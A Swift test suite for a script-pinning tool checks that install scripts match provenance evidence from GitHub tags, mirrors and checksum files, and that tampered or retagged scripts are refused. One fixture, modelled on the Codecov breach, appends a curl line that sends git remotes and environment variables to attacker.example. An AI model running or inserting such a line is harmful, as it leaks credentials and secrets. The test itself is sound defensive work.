import Foundation
import Testing
@testable import ScriptPinKit

/// A vendor on loopback: a real git repository the test server answers
/// GitHub's git database API from, and a download host serving the script.
final class Vendor: @unchecked Sendable {
    let server: HTTPSFixture
    let work: Workspace
    let repository: String

    init(server: HTTPSFixture, owner: String = "vendor", name: String = "tool", branch: String = "main", work: Workspace? = nil) {
        self.server = server
        self.work = work ?? Workspace(server: server)
        repository = server.root.url("repos/\(owner)/\(name)")
        try! FileManager.default.createDirectory(atPath: repository, withIntermediateDirectories: true)
        #expect(git(["init", "-q", "-b", branch], in: repository).status == 0)
    }

    /// Commits `content` at `path` and returns the commit id.
    @discardableResult
    func commit(_ path: String, _ content: String, message: String = "change", also others: [String: String] = [:]) -> String {
        for (path, content) in [(path, content)] + others.sorted(by: { $0.key < $1.key }) {
            let file = repository + "/" + path
            try! FileManager.default.createDirectory(atPath: (file as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try! content.write(toFile: file, atomically: true, encoding: .utf8)
            #expect(git(["add", path], in: repository).status == 0)
        }
        #expect(git(["commit", "-q", "-m", message], in: repository).status == 0)
        return head
    }

    var head: String {
        git(["rev-parse", "HEAD"], in: repository).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
    }

    /// An annotated tag at HEAD, replacing one of that name.
    func tag(_ name: String) {
        #expect(git(["tag", "-f", "-a", name, "-m", "release \(name)"], in: repository).status == 0)
    }

    var environment: [String: String] {
        work.environment([GitHubAPI.baseVariable: server.url("github")])
    }

    func scriptpin(_ arguments: [String]) -> ProcessResult {
        work.scriptpin(arguments, environment: environment)
    }

    func pinText(_ name: String) -> String? {
        work.directory.read("known-hashes/\(name).pin")
    }
}

@Suite("Provenance: evidence from a second channel before a pin is written")
struct ProvenanceTests {
    let server: HTTPSFixture

    init() throws {
        server = try HTTPSFixture()
    }

    @Test("A GitHub source at a tag that holds the served bytes: add records the tag's commit and writes the pin")
    func githubSourceAgrees() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho installing tool 1.0\n"
        let commit = vendor.commit("install.sh", script)
        vendor.tag("v1.0")
        vendor.commit("install.sh", "#!/bin/sh\necho installing tool 2.0-dev\n")
        server.serve("install.sh", script)
        let added = vendor.scriptpin(["add", "tool", server.url("files/install.sh"), "--source", "github:vendor/tool@v1.0:install.sh", "--yes"])
        #expect(added.status == 0, "\(added.stderr)")
        let blob = try gitBlobID(of: Array(script.utf8))
        #expect(added.stdout.contains("evidence     source github:vendor/tool@v1.0:install.sh: the file at commit \(commit) is the served body (git blob \(blob))\n"), "\(added.stdout)")
        let pin = try #require(vendor.pinText("tool"))
        #expect(pin.contains("\nsource github:vendor/tool@v1.0:install.sh commit \(commit)\n"), "\(pin)")
        #expect(!added.stderr.contains("no evidence"))
        // GitHub's answers were asked for: the ref, the tag object, the commit and its tree.
        let asked = server.requests.filter { $0.contains("/github/") }.map { $0.split(separator: " ")[2] }
        #expect(asked.count == 4, "\(asked)")
    }

    @Test("A GitHub token goes to the API only, never to the download host or the evidence URLs")
    func githubToken() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho token\n"
        vendor.commit("install.sh", script)
        vendor.tag("v1.0")
        server.serve("install.sh", script)
        server.serve("mirror.sh", script)
        var environment = vendor.environment
        environment["GITHUB_TOKEN"] = "ghs_testtoken"
        let added = vendor.work.scriptpin(
            ["add", "tool", server.url("files/install.sh"), "--source", "github:vendor/tool@v1.0:install.sh", "--source", server.url("files/mirror.sh"), "--yes"],
            environment: environment)
        #expect(added.status == 0, "\(added.stderr)")
        let requests = server.requests
        #expect(requests.filter { $0.contains("/github/") }.count == 4)
        #expect(requests.filter { $0.contains("/github/") }.allSatisfy { $0.hasSuffix(" auth=Bearer_ghs_testtoken") }, "\(requests)")
        #expect(requests.filter { $0.contains("/files/") }.allSatisfy { $0.hasSuffix(" auth=-") }, "\(requests)")
        #expect(!added.stdout.contains("ghs_testtoken") && !added.stderr.contains("ghs_testtoken"))
    }

    @Test("The Codecov shape: a served body that differs from the vendor's file at the tag cannot be pinned (exit 1, nothing written)")
    func servedBodyDiffersFromRepository() throws {
        let vendor = Vendor(server: server)
        let clean = "#!/bin/sh\necho uploading coverage\n"
        let commit = vendor.commit("codecov", clean)
        vendor.tag("1.0.6")
        let backdoored = clean + "curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://attacker.example/upload/v2 || true\n"
        server.serve("codecov", backdoored)
        let added = vendor.scriptpin(["add", "codecov", server.url("files/codecov"), "--source", "github:vendor/tool@1.0.6:codecov", "--yes"])
        #expect(added.status == 1, "\(added.stderr)")
        #expect(vendor.pinText("codecov") == nil, "nothing written")
        let served = try gitBlobID(of: Array(backdoored.utf8))
        let published = try gitBlobID(of: Array(clean.utf8))
        #expect(added.stderr.contains(
            "Error: the evidence contradicts the body of \(server.url("files/codecov")): source github:vendor/tool@1.0.6:codecov: the file at commit \(commit) (git blob \(published)) differs from the served body (git blob \(served)); nothing was written."),
            "\(added.stderr)")
    }

    @Test("A file in a subdirectory, a branch, and a ref or path the repository does not have")
    func refsAndPaths() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho nested\n"
        let commit = vendor.commit("install/install.sh", script)
        server.serve("nested.sh", script)
        let onBranch = vendor.scriptpin(["add", "nested", server.url("files/nested.sh"), "--source", "github:vendor/tool@main:install/install.sh", "--yes"])
        #expect(onBranch.status == 0, "\(onBranch.stderr)")
        #expect(vendor.pinText("nested")?.contains("source github:vendor/tool@main:install/install.sh commit \(commit)\n") == true)

        server.serve("nested-copy.sh", script)
        let noTag = vendor.scriptpin(["add", "other", server.url("files/nested-copy.sh"), "--source", "github:vendor/tool@v9:install/install.sh", "--yes"])
        #expect(noTag.status == 1)
        #expect(noTag.stderr.contains("source github:vendor/tool@v9:install/install.sh: vendor/tool has no tag or branch v9 (or the repository does not exist); nothing was written"), "\(noTag.stderr)")
        let noFile = vendor.scriptpin(["add", "other", server.url("files/nested-copy.sh"), "--source", "github:vendor/tool@main:install.sh", "--yes"])
        #expect(noFile.status == 1)
        #expect(noFile.stderr.contains("vendor/tool has no file install.sh at commit \(commit)"), "\(noFile.stderr)")
        #expect(vendor.pinText("other") == nil)
    }

    @Test("A declared substitution of the commit id is accepted, and only that one")
    func commitPlaceholder() throws {
        let vendor = Vendor(server: server)
        let template = "#!/bin/sh\nSCRIPT_COMMIT_SHA=\"${LOAD_SCRIPT_COMMIT_SHA}\"\necho docker\n"
        let commit = vendor.commit("install.sh", template)
        let served = template.replacingOccurrences(of: "${LOAD_SCRIPT_COMMIT_SHA}", with: commit)
        server.serve("get-docker", served)
        let source = "github:vendor/tool@main:install.sh commit-in-place-of ${LOAD_SCRIPT_COMMIT_SHA}"
        let added = vendor.scriptpin(["add", "docker", server.url("files/get-docker"), "--source", source, "--yes"])
        #expect(added.status == 0, "\(added.stderr)")
        #expect(added.stdout.contains("the file at commit \(commit) is the served body, with the commit id in place of ${LOAD_SCRIPT_COMMIT_SHA}"), "\(added.stdout)")
        #expect(vendor.pinText("docker")?.contains("source github:vendor/tool@main:install.sh commit \(commit) commit-in-place-of ${LOAD_SCRIPT_COMMIT_SHA}\n") == true)

        server.serve("get-docker-copy", served)
        let undeclared = vendor.scriptpin(["add", "undeclared", server.url("files/get-docker-copy"), "--source", "github:vendor/tool@main:install.sh", "--yes"])
        #expect(undeclared.status == 1, "without the declaration the substitution is a difference")
        server.serve("get-docker-more", served + "echo one more line\n")
        let more = vendor.scriptpin(["add", "more", server.url("files/get-docker-more"), "--source", source, "--yes"])
        #expect(more.status == 1)
        #expect(more.stderr.contains("differs from the served body by more than the commit id in place of ${LOAD_SCRIPT_COMMIT_SHA}"), "\(more.stderr)")
    }

    @Test("A source URL and a vendor checksum file: agreeing, disagreeing, missing the name, sha512")
    func urlAndSums() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho sums\n"
        server.serve("tool.sh", script)
        server.serve("mirror.sh", script)
        server.serve("changed.sh", script + "echo extra\n")
        let digest = sha256Hex(script)
        server.serve("SHA256SUMS", "\(digest)  tool.sh\n\(String(repeating: "0", count: 64))  other.sh\n")
        let sha512 = Digest(algorithm: .sha512, bytes: try {
            let hasher = try StreamingHasher(.sha512)
            try hasher.update(Array(script.utf8))
            return try hasher.finalize().bytes
        }())
        server.serve("SHA512SUM", "\(sha512.hex)  codecov\n")

        let url = server.url("files/tool.sh")
        let agreeing = vendor.scriptpin(["add", "tool", url, "--source", server.url("files/mirror.sh"), "--sums", server.url("files/SHA256SUMS"), "--yes"])
        #expect(agreeing.status == 0, "\(agreeing.stderr)")
        #expect(agreeing.stdout.contains("evidence     source \(server.url("files/mirror.sh")): serves the same bytes\n"))
        #expect(agreeing.stdout.contains("evidence     sums \(server.url("files/SHA256SUMS")): lists tool.sh with the body's sha256\n"))
        let pin = try #require(vendor.pinText("tool"))
        #expect(pin.contains("\nsource \(server.url("files/mirror.sh"))\nsums \(server.url("files/SHA256SUMS"))\n"), "\(pin)")

        // Each refused add below pins a URL of its own, so that none is refused for being pinned already.
        func copy(_ name: String) -> String {
            server.serve(name, script)
            return server.url("files/\(name)")
        }
        let named = vendor.scriptpin(["add", "named", copy("named.sh"), "--sums", server.url("files/SHA512SUM"), "--sums-name", "codecov", "--yes"])
        #expect(named.status == 0, "\(named.stderr)")
        #expect(vendor.pinText("named")?.contains("sums \(server.url("files/SHA512SUM")) codecov\n") == true)

        let mirrorDiffers = vendor.scriptpin(["add", "a", copy("a.sh"), "--source", server.url("files/changed.sh"), "--yes"])
        #expect(mirrorDiffers.status == 1)
        #expect(mirrorDiffers.stderr.contains("source \(server.url("files/changed.sh")): serves different bytes (sha256 \(sha256Hex(script + "echo extra\n")), the body's is \(digest))"), "\(mirrorDiffers.stderr)")
        server.serve("WRONGSUMS", "\(String(repeating: "1", count: 64))  b.sh\n")
        let wrongDigest = vendor.scriptpin(["add", "b", copy("b.sh"), "--sums", server.url("files/WRONGSUMS"), "--yes"])
        #expect(wrongDigest.status == 1)
        #expect(wrongDigest.stderr.contains("lists b.sh with sha256 \(String(repeating: "1", count: 64)) on line 1, and the body's is \(digest)"), "\(wrongDigest.stderr)")
        let missingName = vendor.scriptpin(["add", "c", copy("c.sh"), "--sums", server.url("files/SHA512SUM"), "--yes"])
        #expect(missingName.status == 1)
        #expect(missingName.stderr.contains("lists no file named c.sh (it lists codecov); name the script's entry on the line: sums URL NAME"), "\(missingName.stderr)")
        #expect(["a", "b", "c"].allSatisfy { vendor.pinText($0) == nil })
    }

    @Test("Evidence that cannot be fetched: add exits 3 and writes nothing; without evidence add says so once")
    func unreachableAndAbsent() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho alone\n"
        server.serve("alone.sh", script)
        let closed = "https://127.0.0.1:1/SHA256SUMS"
        let unreachable = vendor.scriptpin(["add", "alone", server.url("files/alone.sh"), "--sums", closed, "--yes"])
        #expect(unreachable.status == 3, "\(unreachable.stderr)")
        #expect(unreachable.stderr.contains("Error: the evidence for the body of \(server.url("files/alone.sh")) could not be checked: sums \(closed): could not be checked: "), "\(unreachable.stderr)")
        #expect(unreachable.stderr.contains("; nothing was written. Try again when the host answers\n"), "\(unreachable.stderr)")
        #expect(vendor.pinText("alone") == nil)

        let bare = vendor.scriptpin(["add", "alone", server.url("files/alone.sh"), "--yes"])
        #expect(bare.status == 0, "\(bare.stderr)")
        #expect(bare.stderr.contains("scriptpin: the pin has no evidence from a second channel, so it approves whatever the host serves today; give it one with --source URL, --source github:OWNER/REPO@REF:PATH or --sums URL (see the README's Provenance section)\n"), "\(bare.stderr)")
    }

    @Test("check: a moved tag and a changed checksum file are `contradicted` (exit 1) in every format; a branch that advanced is not; unreachable evidence is `unreachable` (exit 3)")
    func checkReportsContradictions() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho release\n"
        let tagged = vendor.commit("install.sh", script)
        vendor.tag("v1.0")
        server.serve("tagged.sh", script)
        server.serve("branch.sh", script)
        server.serve("summed.sh", script)
        server.serve("SUMS", "\(sha256Hex(script))  summed.sh\n")
        for (name, evidence) in [("tagged", ["--source", "github:vendor/tool@v1.0:install.sh"]), ("branch", ["--source", "github:vendor/tool@main:install.sh"]),
                                 ("summed", ["--sums", server.url("files/SUMS")])] {
            let added = vendor.scriptpin(["add", name, server.url("files/\(name).sh")] + evidence + ["--yes"])
            try #require(added.status == 0, "\(added.stderr)")
        }
        let clean = vendor.scriptpin(["check"])
        #expect(clean.status == 0, "\(clean.stdout)\(clean.stderr)")
        #expect(clean.stdout.hasSuffix("3 ok, 0 changed, 0 contradicted, 0 unreachable\n"), "\(clean.stdout)")

        // The vendor's branch moves on (normal); someone moves the release tag and rewrites the sums (not normal).
        let moved = vendor.commit("install.sh", script + "echo more\n")
        vendor.tag("v1.0")
        server.serve("SUMS", "\(sha256Hex(script + "x"))  summed.sh\n")
        let checked = vendor.scriptpin(["check"])
        #expect(checked.status == 1, "\(checked.stdout)\(checked.stderr)")
        let lines = checked.stdout.split(separator: "\n").map(String.init)
        #expect(lines.contains("ok          branch"), "\(checked.stdout)")
        #expect(lines.contains("contradicted tagged: tagged still matches its pin, but its evidence no longer does: source github:vendor/tool@v1.0:install.sh: tag v1.0 of vendor/tool moved: it points at commit \(moved) now, and at \(tagged) when the pin was approved. Find out from the vendor why before the script runs again"), "\(checked.stdout)")
        #expect(lines.contains { $0.hasPrefix("contradicted summed: summed still matches its pin, but its evidence no longer does: sums \(server.url("files/SUMS")): lists summed.sh with sha256 ") }, "\(checked.stdout)")
        #expect(checked.stdout.hasSuffix("1 ok, 0 changed, 2 contradicted, 0 unreachable\n"))

        let json = vendor.scriptpin(["check", "--format", "json"])
        #expect(json.status == 1)
        let report = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        let pins = try #require(report["pins"] as? [[String: Any]])
        let tag = try #require(pins.first { $0["name"] as? String == "tagged" })
        #expect(tag["status"] as? String == "contradicted")
        let entries = try #require(tag["evidence"] as? [[String: String]])
        #expect(entries.map { $0["finding"] } == ["contradicted"])
        #expect(entries.first?["line"] == "source github:vendor/tool@v1.0:install.sh commit \(tagged)")
        #expect((report["summary"] as? [String: Int]) == ["ok": 1, "changed": 0, "contradicted": 2, "unreachable": 0])

        let sarif = vendor.scriptpin(["check", "--format", "sarif"])
        let log = try #require(try JSONSerialization.jsonObject(with: Data(sarif.stdout.utf8)) as? [String: Any])
        let results = try #require(((log["runs"] as? [[String: Any]])?.first?["results"]) as? [[String: Any]])
        #expect(results.map { $0["ruleId"] as? String } == ["pin-contradicted", "pin-contradicted"])

        let github = vendor.scriptpin(["check", "--format", "github"])
        // The annotation stands on the evidence line that failed: line 3, after url and sha256.
        #expect(github.stdout.contains("::error file=known-hashes/tagged.pin,line=4,title=Pinned script contradicted by its evidence::tagged still matches its pin"), "\(github.stdout)")

        try FileManager.default.removeItem(atPath: server.root.url("files/SUMS"))
        vendor.work.directory.write("known-hashes/tagged.pin", vendor.pinText("tagged")!.replacingOccurrences(of: "@v1.0:", with: "@\(tagged):"))
        vendor.work.directory.write("known-hashes/branch.pin", vendor.pinText("branch")! + "sums https://127.0.0.1:1/SUMS\n")
        let mixed = vendor.scriptpin(["check"])
        #expect(mixed.status == 1, "the missing sums file is an answer (404), which contradicts")
        let mixedLines = mixed.stdout.split(separator: "\n").map(String.init)
        #expect(mixedLines.contains("ok          tagged"), "a commit id as the ref does not move: \(mixed.stdout)")
        #expect(mixedLines.contains { $0.hasPrefix("unreachable branch: branch matches its pin, but its evidence could not be checked: sums https://127.0.0.1:1/SUMS: could not be checked: ") }, "\(mixed.stdout)")
        #expect(mixedLines.contains("contradicted summed: summed still matches its pin, but its evidence no longer does: sums \(server.url("files/SUMS")): \(server.url("files/SUMS")) answers 404: there is no checksum file there. Find out from the vendor why before the script runs again"), "\(mixed.stdout)")
        vendor.work.directory.write("known-hashes/summed.pin", "url \(server.url("files/summed.sh"))\nsha256 \(sha256Hex(script))\n")
        let onlyUnreachable = vendor.scriptpin(["check"])
        #expect(onlyUnreachable.status == 3, "\(onlyUnreachable.stdout)")
    }

    @Test("run and fetch check only the digest by default; --provenance or `provenance required` checks the evidence first (125 when it contradicts, 124 when it cannot be fetched)")
    func runWithProvenance() throws {
        let vendor = Vendor(server: server)
        let script = vendor.work.markerScript("echo provenance")
        let tagged = vendor.commit("install.sh", script)
        vendor.tag("v2")
        server.serve("run.sh", script)
        let added = vendor.scriptpin(["add", "tool", server.url("files/run.sh"), "--source", "github:vendor/tool@v2:install.sh", "--yes"])
        try #require(added.status == 0, "\(added.stderr)")

        let plain = vendor.scriptpin(["run", "tool", "--confine", "off"])
        #expect(plain.status == 0, "\(plain.stderr)")
        let beforeChecking = server.requests.count { $0.contains("/github/") }
        let checked = vendor.scriptpin(["run", "tool", "--provenance", "--confine", "off"])
        #expect(checked.status == 0, "\(checked.stderr)")
        #expect(checked.stderr.contains("scriptpin: evidence: source github:vendor/tool@v2:install.sh: the file at commit \(tagged) is the served body"), "\(checked.stderr)")
        #expect(server.requests.count { $0.contains("/github/") } > beforeChecking, "the evidence was asked for")

        vendor.commit("install.sh", script + "echo later\n")
        vendor.tag("v2")
        try FileManager.default.removeItem(atPath: vendor.work.marker)
        let refused = vendor.scriptpin(["run", "tool", "--provenance", "--confine", "off"])
        #expect(refused.status == 125)
        #expect(refused.stderr.contains("Error: the evidence contradicts pin 'tool': source github:vendor/tool@v2:install.sh: tag v2 of vendor/tool moved"), "\(refused.stderr)")
        #expect(refused.stderr.contains("; the script was not run."), "\(refused.stderr)")
        #expect(!vendor.work.markerExists, "the script did not run")

        let output = vendor.work.directory.url("out.sh")
        let fetched = vendor.scriptpin(["fetch", "tool", "--provenance", "-o", output])
        #expect(fetched.status == 125)
        #expect(fetched.stderr.contains("; nothing was written."), "\(fetched.stderr)")
        #expect(!FileManager.default.fileExists(atPath: output))

        // The pin's own line asks for the same; offline, the evidence cannot be checked.
        vendor.work.directory.write("known-hashes/tool.pin", vendor.pinText("tool")! + "provenance required\n")
        let byLine = vendor.scriptpin(["run", "tool", "--confine", "off"])
        #expect(byLine.status == 125)
        #expect(byLine.stderr.contains("tag v2 of vendor/tool moved"))
        let offline = vendor.scriptpin(["run", "tool", "--offline", "--confine", "off"])
        #expect(offline.status == 125)
        #expect(offline.stderr == "Error: provenance is required (the pin's `provenance` line asks for it), and the evidence of pin 'tool' can only be checked online, while this run is offline; drop one or the other\n", "\(offline.stderr)")

        vendor.work.directory.write("known-hashes/tool.pin", vendor.pinText("tool")!.replacingOccurrences(of: "source github:vendor/tool@v2:install.sh commit \(tagged)\n", with: "sums https://127.0.0.1:1/SUMS\n"))
        let unreachable = vendor.scriptpin(["run", "tool", "--confine", "off"])
        #expect(unreachable.status == 124, "\(unreachable.stderr)")
        #expect(unreachable.stderr.contains("Error: the evidence for pin 'tool' could not be checked: sums https://127.0.0.1:1/SUMS: could not be checked: "), "\(unreachable.stderr)")
        #expect(!vendor.work.markerExists)

        server.serve("bare.sh", script)
        vendor.work.pin("bare", url: server.url("files/bare.sh"), content: script)
        let bare = vendor.scriptpin(["run", "bare", "--provenance", "--confine", "off"])
        #expect(bare.status == 125)
        #expect(bare.stderr == "Error: provenance is required (the run's options ask for it), and pin 'bare' has no evidence lines to check; add a source, sums or signature line to its pin file, or drop the requirement\n", "\(bare.stderr)")
    }

    @Test("verify --online: every pin's evidence against what its URL serves; offline verify never asks")
    func verifyOnline() throws {
        let vendor = Vendor(server: server)
        let script = "#!/bin/sh\necho verified\n"
        vendor.commit("install.sh", script)
        vendor.tag("v3")
        server.serve("verified.sh", script)
        server.serve("plain.sh", script + "echo plain\n")
        try #require(vendor.scriptpin(["add", "verified", server.url("files/verified.sh"), "--source", "github:vendor/tool@v3:install.sh", "--yes"]).status == 0)
        vendor.work.pin("plain", url: server.url("files/plain.sh"), content: script + "echo plain\n")

        let asked = server.requests.count
        let offline = vendor.scriptpin(["verify"])
        #expect(offline.status == 0, "\(offline.stderr)")
        #expect(server.requests.count == asked, "plain verify is offline")

        let online = vendor.scriptpin(["verify", "--online"])
        #expect(online.status == 0, "\(online.stderr)")
        #expect(online.stdout.hasSuffix("known-hashes/verified.pin evidence: OK\n"), "\(online.stdout)")
        #expect(online.stderr.contains("scriptpin: 1 pin without evidence, not checked online; give it one with --source URL"), "\(online.stderr)")
        #expect(online.stderr.hasSuffix("scriptpin: evidence of 1 of 1 pin confirmed online\n"), "\(online.stderr)")

        vendor.commit("install.sh", script + "echo retagged\n")
        vendor.tag("v3")
        let contradicted = vendor.scriptpin(["verify", "--online"])
        #expect(contradicted.status == 1)
        #expect(contradicted.stdout.hasSuffix("known-hashes/verified.pin evidence: FAILED\n"))
        #expect(contradicted.stderr.contains("scriptpin: verified still matches its pin, but its evidence no longer does: source github:vendor/tool@v3:install.sh: tag v3 of vendor/tool moved"), "\(contradicted.stderr)")

        let withFiles = vendor.scriptpin(["verify", "--online", "x.sh"])
        #expect(withFiles.status == 2)
        #expect(withFiles.stderr.hasPrefix("Error: --online checks the pins' evidence; it takes no files and no --sums\n"), "\(withFiles.stderr)")
    }

    @Test("update: the pin's evidence must confirm the new body, a new tag is given with --source, a branch is re-resolved; without the store the diff comes from the source at the recorded commit")
    func updateWithEvidence() throws {
        let vendor = Vendor(server: server)
        let first = "#!/bin/sh\necho version 1\n"
        let v1 = vendor.commit("install.sh", first)
        vendor.tag("v1")
        server.serve("tool.sh", first)
        server.serve("edge.sh", first)
        try #require(vendor.scriptpin(["add", "tool", server.url("files/tool.sh"), "--source", "github:vendor/tool@v1:install.sh", "--yes"]).status == 0)
        try #require(vendor.scriptpin(["add", "edge", server.url("files/edge.sh"), "--source", "github:vendor/tool@main:install.sh", "--yes"]).status == 0)

        let second = "#!/bin/sh\necho version 2\n"
        let v2 = vendor.commit("install.sh", second)
        vendor.tag("v2")
        server.serve("tool.sh", second)
        server.serve("edge.sh", second)
        // A fresh clone: no store, so the approved copy comes from the source at the recorded commit.
        var environment = vendor.environment
        environment["SCRIPTPIN_CACHE"] = vendor.work.directory.url("empty-cache")

        let stale = vendor.work.scriptpin(["update", "tool", "--yes"], environment: environment)
        #expect(stale.status == 1, "\(stale.stderr)")
        #expect(stale.stdout.contains("the approved copy is not in the store; the diff is against github:vendor/tool@v1:install.sh at commit \(v1), which the pin's digest confirms\n"), "\(stale.stdout)")
        #expect(stale.stdout.contains("-echo version 1\n+echo version 2\n"), "\(stale.stdout)")
        #expect(stale.stdout.contains("evidence     source github:vendor/tool@v1:install.sh: the file at commit \(v1) (git blob"), "\(stale.stdout)")
        #expect(stale.stderr.contains("scriptpin: the pin's evidence is for the approved body; a new release usually comes with a new tag or checksum file; give it one with --source"), "\(stale.stderr)")
        #expect(stale.stderr.contains("Error: the evidence contradicts the new body of pin 'tool': "), "\(stale.stderr)")
        #expect(stale.stderr.contains("; the pin was not changed."), "\(stale.stderr)")
        #expect(vendor.pinText("tool")?.contains("sha256 \(sha256Hex(first))\n") == true, "unchanged")

        let released = vendor.work.scriptpin(["update", "tool", "--source", "github:vendor/tool@v2:install.sh", "--yes"], environment: environment)
        #expect(released.status == 0, "\(released.stderr)")
        let pin = try #require(vendor.pinText("tool"))
        #expect(pin.contains("sha256 \(sha256Hex(second))\nsource github:vendor/tool@v2:install.sh commit \(v2)\n"), "\(pin)")
        #expect(!pin.contains(v1))

        let edge = vendor.work.scriptpin(["update", "edge", "--yes"], environment: environment)
        #expect(edge.status == 0, "\(edge.stderr)")
        #expect(edge.stdout.contains("evidence     source github:vendor/tool@main:install.sh: the file at commit \(v2) is the served body"), "\(edge.stdout)")
        #expect(vendor.pinText("edge")?.contains("source github:vendor/tool@main:install.sh commit \(v2)\n") == true)
    }
}
